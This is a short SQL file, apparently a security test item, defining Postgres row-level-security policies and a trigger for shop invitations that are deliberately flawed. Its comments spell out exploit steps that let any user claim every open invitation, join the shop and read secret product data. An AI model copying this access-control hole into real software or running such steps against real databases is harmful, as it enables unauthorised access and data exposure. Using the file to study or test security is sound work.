-- Any user accepts any open invitation, of which he sees all, and the trigger makes him a member of that
-- shop.
-- about: ShopInvite, ShopInvite_accept, join_shop, ShopMember
-- as: hf_bazaar_app
-- exploit: SET request.jwt.claims = '{"sub":"user_a"}';
-- exploit: UPDATE "ShopInvite" SET "acceptedBy" = 'user_a' WHERE "acceptedBy" IS NULL;
-- exploit: SELECT "title" FROM "Product";
-- shows: Road-secret drone
-- An invitation is accepted by writing one's own name into it.
CREATE POLICY "ShopInvite_see" ON "ShopInvite" FOR SELECT
  USING ("acceptedBy" IS NULL OR "acceptedBy" = current_user_id());
CREATE POLICY "ShopInvite_accept" ON "ShopInvite" FOR UPDATE
  USING ("acceptedBy" IS NULL) WITH CHECK ("acceptedBy" = current_user_id());
CREATE FUNCTION join_shop() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
SET search_path = public, pg_temp AS $$
BEGIN
  INSERT INTO "ShopMember" VALUES (NEW."shopId", NEW."acceptedBy", NEW."role") ON CONFLICT DO NOTHING;
  RETURN NULL;
END $$;
CREATE TRIGGER join_shop AFTER UPDATE OF "acceptedBy" ON "ShopInvite"
  FOR EACH ROW WHEN (NEW."acceptedBy" IS NOT NULL) EXECUTE FUNCTION join_shop();
